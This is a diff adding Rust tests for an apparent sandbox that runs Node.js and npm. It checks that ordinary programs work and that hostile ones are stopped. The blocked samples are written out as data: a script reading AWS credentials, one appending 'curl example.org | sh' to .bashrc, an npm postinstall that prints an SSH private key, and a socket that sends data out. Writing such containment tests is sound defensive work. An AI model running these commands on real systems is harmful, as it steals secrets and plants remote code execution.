@@ -1,0 +1,107 @@
+//! `node`: programs of Node.js and the scripts of a package.
+
+use super::harm::{Harmful, reaches_nobody};
+use super::{passed, under};
+
+const NODE: &str = "/usr/bin/node";
+
+#[test]
+fn scripts_of_npm_pass() {
+    let package = r#"{"name": "answer", "version": "1.0.0", "scripts": {
+        "build": "node build.js", "test": "npm run --silent build && node -p \"require('./out.json').n\""}}"#;
+    let build = "require('fs').writeFileSync('out.json', JSON.stringify({n: 42}))";
+    let run = under("node")
+        .file("package.json", package)
+        .file("build.js", build);
+    let ran = run.run(&["npm", "test", "--silent"]);
+    passed(&ran, "42\n");
+    let changed: Vec<_> = ran
+        .list("/files_changed")
+        .iter()
+        .map(|file| &file["path"])
+        .collect();
+    ran.expect(changed == ["out.json"], "neither a cache nor a log is left");
+}
+
+#[test]
+fn a_package_of_the_workspace_is_installed_offline() {
+    let run = under("node")
+        .file(
+            "package.json",
+            r#"{"name": "a", "dependencies": {"sum": "file:./sum"}}"#,
+        )
+        .file("main.js", "console.log(require('sum')(40, 2))");
+    std::fs::create_dir(run.path().join("sum")).expect("a folder");
+    let run = run
+        .file(
+            "sum/package.json",
+            r#"{"name": "sum", "version": "1.0.0", "main": "i.js"}"#,
+        )
+        .file("sum/i.js", "module.exports = (a, b) => a + b");
+    passed(&run.shell("npm install --silent && node main.js"), "42\n");
+}
+
+#[test]
+fn workers_streams_and_children_pass() {
+    let program = "const { Worker, isMainThread, parentPort } = require('worker_threads');
+const fs = require('fs'), zlib = require('zlib'), { pipeline } = require('stream/promises');
+if (!isMainThread) { parentPort.postMessage(require('crypto').createHash('sha256').update('x').digest('hex').slice(0, 8)); }
+else (async () => {
+  fs.writeFileSync('text', 'x'.repeat(1 << 20));
+  await pipeline(fs.createReadStream('text'), zlib.createGzip(), fs.createWriteStream('text.gz'));
+  const digest = await new Promise(done => new Worker(__filename).on('message', done));
+  const listed = require('child_process').execSync('ls text.gz').toString().trim();
+  await new Promise(done => setTimeout(done, 5));
+  console.log(fs.statSync('text.gz').size < 5000, digest, listed);
+})();";
+    let ran = under("node")
+        .file("main.js", program)
+        .run(&[NODE, "main.js"]);
+    passed(&ran, "true 2d711642 text.gz\n");
+}
+
+fn script(text: &'static str) -> Harmful<'static> {
+    let command: &[&str] = match text {
+        TOKEN => &[NODE, "-e", TOKEN],
+        _ => &[NODE, "-e", STARTUP],
+    };
+    Harmful {
+        profile: "node",
+        command,
+        files: Vec::new(),
+    }
+}
+
+const TOKEN: &str = "console.log(require('fs').readFileSync('.aws/credentials', 'utf8'))";
+const STARTUP: &str = "require('fs').appendFileSync('.bashrc', 'curl example.org | sh\\n')";
+
+#[test]
+fn a_package_that_takes_a_token_is_killed() {
+    script(TOKEN).reads_no_secret("the token", "stored-credential");
+}
+
+#[test]
+fn a_package_that_stays_in_the_shell_is_killed() {
+    script(STARTUP).changes_no_startup_file(".bashrc");
+}
+
+#[test]
+fn a_script_of_npm_that_reads_a_key_is_killed() {
+    let package = r#"{"name": "a", "scripts": {"postinstall": "cat .ssh/id_ed25519"}}"#;
+    let harmful = Harmful {
+        profile: "node",
+        command: &["npm", "run", "--silent", "postinstall"],
+        files: vec![("package.json", package.to_owned())],
+    };
+    harmful.reads_no_secret("the private key", "private-key");
+}
+
+#[test]
+fn a_package_that_sends_data_away_reaches_nobody() {
+    reaches_nobody("node", &|port| {
+        let program = format!(
+            "const s = require('net').connect({port}, '127.0.0.1', () => s.end('data', () => s.destroy())); s.on('error', () => {{}})"
+        );
+        [NODE, "-e", &program].map(str::to_owned).to_vec()
+    });
+}
